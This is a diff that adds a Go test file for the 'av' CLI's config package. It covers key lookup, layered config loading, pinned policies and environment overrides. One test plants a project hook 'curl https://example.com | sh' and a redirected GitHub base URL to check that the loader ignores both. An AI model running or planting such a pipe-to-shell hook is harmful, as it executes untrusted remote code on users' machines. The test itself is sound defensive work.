@@ -0,0 +1,208 @@
+package config_test
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/aviator-co/av/internal/config"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestKeys(t *testing.T) {
+	var names []string
+	for _, key := range config.Keys() {
+		names = append(names, key.Name)
+	}
+	assert.Contains(t, names, "pullRequest.rebaseWithDraft")
+	assert.Contains(t, names, "gitHub.baseUrl")
+	assert.Contains(t, names, "aviator.apiToken")
+	assert.Contains(t, names, "hooks")
+
+	key, err := config.LookupKey("PULLREQUEST.DRAFT")
+	require.NoError(t, err)
+	assert.Equal(t, "pullRequest.draft", key.Name)
+	value, err := key.Parse([]string{"true"})
+	require.NoError(t, err)
+	assert.Equal(t, true, value)
+	_, err = key.Parse([]string{"maybe"})
+	assert.Error(t, err)
+
+	key, err = config.LookupKey("hooks.pre-push")
+	require.NoError(t, err)
+	value, err = key.Parse([]string{"make lint", "make test"})
+	require.NoError(t, err)
+	assert.Equal(t, []string{"make lint", "make test"}, value)
+
+	_, err = config.LookupKey("pullRequest.drafts")
+	assert.Error(t, err)
+}
+
+func TestLoad(t *testing.T) {
+	saved := config.Av
+	t.Cleanup(func() { config.Av = saved })
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", "")
+	t.Setenv("AV_GITHUB_TOKEN", "")
+	t.Setenv("GITHUB_TOKEN", "")
+	repoDir := t.TempDir()
+
+	global := filepath.Join(home, ".config", "av", "config.json")
+	require.NoError(t, os.MkdirAll(filepath.Dir(global), 0755))
+	require.NoError(t, os.WriteFile(global, []byte(`{"PullRequest": {"Draft": true, "MergeMethod": "squash"}}`), 0644))
+	repo := filepath.Join(repoDir, "config.yaml")
+	require.NoError(t, os.WriteFile(repo, []byte("pullRequest:\n  mergeMethod: rebase\n"), 0644))
+
+	// The repo config is layered on top of the global config.
+	loaded, err := config.Load("", []string{repoDir})
+	require.NoError(t, err)
+	assert.True(t, loaded)
+	assert.True(t, config.Av.PullRequest.Draft)
+	assert.Equal(t, "rebase", config.Av.PullRequest.MergeMethod)
+
+	draft, err := config.LookupKey("pullRequest.draft")
+	require.NoError(t, err)
+	mergeMethod, err := config.LookupKey("pullRequest.mergeMethod")
+	require.NoError(t, err)
+	openBrowser, err := config.LookupKey("pullRequest.openBrowser")
+	require.NoError(t, err)
+	assert.Equal(t, global, config.Source(draft))
+	assert.Equal(t, repo, config.Source(mergeMethod))
+	assert.Equal(t, "", config.Source(openBrowser))
+
+	// Files are written in their existing format (keeping the spelling of
+	// existing keys).
+	file, err := config.FileForScope(config.ScopeGlobal)
+	require.NoError(t, err)
+	require.NoError(t, file.Set(openBrowser, false))
+	data, err := os.ReadFile(global)
+	require.NoError(t, err)
+	assert.JSONEq(t, `{"PullRequest": {"Draft": true, "MergeMethod": "squash", "openBrowser": false}}`, string(data))
+
+	removed, err := file.Unset(mergeMethod)
+	require.NoError(t, err)
+	assert.True(t, removed)
+	removed, err = file.Unset(mergeMethod)
+	require.NoError(t, err)
+	assert.False(t, removed)
+	value, ok := file.Get(draft)
+	assert.True(t, ok)
+	assert.Equal(t, true, value)
+}
+
+func TestPolicy(t *testing.T) {
+	saved := config.Av
+	t.Cleanup(func() { config.Av = saved })
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("XDG_CONFIG_HOME", "")
+	projectDir := t.TempDir()
+	repoDir := t.TempDir()
+
+	project := filepath.Join(projectDir, ".av.yaml")
+	require.NoError(t, os.WriteFile(project, []byte(`
+pullRequest:
+  draft: true
+  labels: [stacked]
+policy:
+  pinned: [pullRequest.draft, pullRequest.labels, pullRequest.openBrowser]
+`), 0644))
+	require.NoError(t, os.WriteFile(filepath.Join(repoDir, "config.yaml"), []byte(`
+pullRequest:
+  draft: false
+  labels: [stacked]
+`), 0644))
+
+	_, err := config.Load(projectDir, []string{repoDir})
+	require.NoError(t, err)
+	assert.False(t, config.Av.PullRequest.Draft)
+	assert.Equal(t, []string{"stacked"}, config.Av.PullRequest.Labels)
+
+	// Overriding a pinned setting with the same value is fine.
+	violations := config.PolicyViolations()
+	require.Len(t, violations, 1)
+	assert.Equal(t, "pullRequest.draft", violations[0].Key.Name)
+	assert.Equal(t, true, violations[0].Pinned)
+	assert.Equal(t, project, violations[0].PinnedBy)
+	assert.Equal(t, filepath.Join(repoDir, "config.yaml"), violations[0].Source)
+
+	key, err := config.LookupKey("pullRequest.openBrowser")
+	require.NoError(t, err)
+	pinnedBy, ok := config.PinnedBy(key)
+	assert.True(t, ok)
+	assert.Equal(t, project, pinnedBy)
+}
+
+func TestProjectAllowedKeys(t *testing.T) {
+	saved := config.Av
+	t.Cleanup(func() { config.Av = saved })
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("XDG_CONFIG_HOME", "")
+	t.Setenv("AV_GITHUB_BASEURL", "")
+	projectDir := t.TempDir()
+
+	require.NoError(t, os.WriteFile(filepath.Join(projectDir, ".av.yaml"), []byte(`
+pullRequest:
+  draft: true
+branch:
+  nameTemplate: "{{.User}}/{{.Slug}}"
+gitHub:
+  baseUrl: https://github.example.com
+hooks:
+  pre-push: ["curl https://example.com | sh"]
+`), 0644))
+
+	_, err := config.Load(projectDir, nil)
+	require.NoError(t, err)
+	assert.True(t, config.Av.PullRequest.Draft)
+	assert.Equal(t, "{{.User}}/{{.Slug}}", config.Av.Branch.NameTemplate)
+	// The project config can't run commands or redirect credentials.
+	assert.Equal(t, "https://github.com", config.Av.GitHub.BaseUrl)
+	assert.Empty(t, config.Av.Hooks)
+
+	files := config.Files()
+	require.Len(t, files, 1)
+	assert.ElementsMatch(t, []string{"github.baseurl", "hooks.pre-push"}, files[0].IgnoredKeys())
+	baseUrl, err := config.LookupKey("gitHub.baseUrl")
+	require.NoError(t, err)
+	assert.False(t, baseUrl.ProjectAllowed())
+	assert.Equal(t, "", config.Source(baseUrl))
+}
+
+func TestLoadFromEnv(t *testing.T) {
+	saved := config.Av
+	t.Cleanup(func() { config.Av = saved })
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("XDG_CONFIG_HOME", "")
+	repoDir := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(repoDir, "config.yaml"), []byte("pullRequest:\n  draft: false\n"), 0644))
+
+	t.Setenv("AV_PULLREQUEST_DRAFT", "true")
+	t.Setenv("AV_PULLREQUEST_REBASEWITHDRAFT", "false")
+	t.Setenv("AV_PULLREQUEST_LABELS", "stacked,needs-review")
+	t.Setenv("AV_GITHUB_BASEURL", "https://github.example.com")
+	t.Setenv("AV_GITHUB_TOKEN", "")
+	t.Setenv("GITHUB_TOKEN", "token")
+
+	_, err := config.Load("", []string{repoDir})
+	require.NoError(t, err)
+	assert.True(t, config.Av.PullRequest.Draft)
+	require.NotNil(t, config.Av.PullRequest.RebaseWithDraft)
+	assert.False(t, *config.Av.PullRequest.RebaseWithDraft)
+	assert.Equal(t, []string{"stacked", "needs-review"}, config.Av.PullRequest.Labels)
+	assert.Equal(t, "https://github.example.com", config.Av.GitHub.BaseUrl)
+	assert.Equal(t, "token", config.Av.GitHub.Token)
+
+	draft, err := config.LookupKey("pullRequest.draft")
+	require.NoError(t, err)
+	assert.Equal(t, "AV_PULLREQUEST_DRAFT", draft.EnvVar())
+	assert.Equal(t, "$AV_PULLREQUEST_DRAFT", config.Source(draft))
+	token, err := config.LookupKey("github.token")
+	require.NoError(t, err)
+	assert.Equal(t, "$GITHUB_TOKEN", config.Source(token))
+
+	t.Setenv("AV_PULLREQUEST_DRAFT", "maybe")
+	_, err = config.Load("", []string{repoDir})
+	assert.Error(t, err)
+}